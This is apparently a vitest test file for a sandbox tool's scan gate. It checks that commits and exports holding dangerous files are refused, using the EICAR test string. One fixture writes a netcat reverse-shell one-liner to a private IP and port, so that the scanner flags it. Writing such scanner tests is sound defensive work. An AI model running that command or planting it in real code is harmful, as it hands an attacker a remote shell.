/**
 * Dangerous changes do not leave a codebase sandbox when a scan gate is set:
 * commit and export refuse with E_SCAN_BLOCKED and nothing is committed or
 * written; the same changes without the gate (the twin) do go through.
 */
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hasCode } from '@warden/protocol';
import { exists, tempDir, testEngine, type TempDir, type TestEngine } from '../helpers/host.js';
import { runWarden } from '../helpers/cli.js';

const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
let t: TestEngine;
let src: TempDir;

beforeAll(async () => {
  t = await testEngine();
  src = await tempDir('warden-gate-src-');
  await mkdir(join(src.path, 'src'));
  await writeFile(join(src.path, 'src/app.py'), 'print(1)\n');
  await t.engine.codebases.add({ dir: src.path }, { name: 'gated' });
});

afterAll(async () => {
  await t?.[Symbol.asyncDispose]();
  await src?.[Symbol.asyncDispose]();
});

describe('scan gates on what leaves a sandbox', () => {
  it('scanChanges rates each added or modified file', async () => {
    await using sbx = await t.engine.create({ codebase: { name: 'gated' }, policy: { default: 'write' } });
    await sbx.files.write('src/app.py', 'print(2)\n');
    await sbx.files.write('src/shell.sh', '#!/bin/sh\nnc -e /bin/sh 10.0.0.1 4444\n');
    const v = await sbx.scanChanges();
    const byPath = Object.fromEntries(v.map((x) => [x.path, x.verdict.level]));
    expect(byPath['src/app.py']).toBe('clean');
    expect(['malicious', 'critical']).toContain(byPath['src/shell.sh']);
  });

  it('commit refuses a critical file at blockAt malicious, and the codebase keeps its version', async () => {
    await using sbx = await t.engine.create({ codebase: { name: 'gated' }, policy: { default: 'write' } });
    await sbx.files.write('src/eicar.txt', EICAR);
    const before = (await t.engine.codebases.show('gated')).version;
    await expect(sbx.commit({ scan: { blockAt: 'malicious' } })).rejects.toSatisfy(
      (e) => hasCode(e, 'E_SCAN_BLOCKED') && (e as Error).message.includes('src/eicar.txt'),
    );
    expect((await t.engine.codebases.show('gated')).version).toBe(before);
    // Twin: without the gate the same change commits.
    const m = await sbx.commit();
    expect(m.version).toBe(before + 1);
  });

  it('a tar export with a critical file is refused and the tarball removed; a patch too', async () => {
    await using out = await tempDir('warden-gate-out-');
    await using sbx = await t.engine.create({ codebase: { name: 'gated' }, policy: { default: 'write' } });
    await sbx.files.write('exported/eicar.txt', EICAR); // (the commit test above put src/eicar.txt into the codebase)
    const file = join(out.path, 'changes.tar');
    await expect(sbx.exportChanges({ format: 'tar', file, scan: { blockAt: 'malicious' } })).rejects.toSatisfy((e) => hasCode(e, 'E_SCAN_BLOCKED'));
    expect(await exists(file)).toBe(false);
    await expect(sbx.exportChanges({ format: 'patch', scan: { blockAt: 'critical' } })).rejects.toSatisfy((e) => hasCode(e, 'E_SCAN_BLOCKED'));
    // Twin: a clean change exports through the same gate.
    await sbx.files.remove('exported');
    await sbx.files.remove('src/eicar.txt');
    await sbx.files.write('src/ok.py', 'print(3)\n');
    await sbx.exportChanges({ format: 'tar', file, scan: { blockAt: 'malicious' } });
    expect(await exists(file)).toBe(true);
  });
});

describe('warden scan', () => {
  it('prints a verdict per file, walks directories, and fails at the level asked', async () => {
    await using dir = await tempDir('warden-cli-scan-');
    await writeFile(join(dir.path, 'eicar.com'), EICAR);
    await writeFile(join(dir.path, 'hello.py'), 'print("hello")\n');
    const r = await runWarden(['scan', '--json', dir.path], { dataDir: dir.path });
    expect(r.code).toBe(1);
    const out = JSON.parse(r.stdout) as { files: Array<{ path: string; level: string; score: number; confidence: number; findings: unknown[]; explanation: string }> };
    const by: Record<string, (typeof out.files)[number]> = Object.fromEntries(out.files.map((f) => [f.path.split('/').at(-1) ?? '', f]));
    expect(by['eicar.com']).toMatchObject({ level: 'critical' });
    expect(by['eicar.com']?.explanation).toMatch(/eicar/i);
    expect(by['hello.py']).toMatchObject({ level: 'clean', findings: [] });
    const clean = await runWarden(['scan', join(dir.path, 'hello.py')], { dataDir: dir.path });
    expect(clean.code).toBe(0);
    expect(clean.stdout).toMatch(/^CLEAN/);
    expect(await readFile(join(dir.path, 'hello.py'), 'utf8')).toBe('print("hello")\n'); // scanning never changes a file
  });
});
